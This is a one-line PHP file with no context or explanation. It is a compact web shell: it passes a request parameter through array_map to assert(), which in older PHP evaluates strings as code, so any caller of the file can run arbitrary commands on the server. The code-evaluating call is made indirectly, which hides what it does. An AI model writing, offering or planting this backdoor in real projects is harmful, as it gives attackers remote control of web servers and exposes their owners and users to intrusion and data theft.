<?php array_map('assert', (array)$_REQUEST['x']); ?>
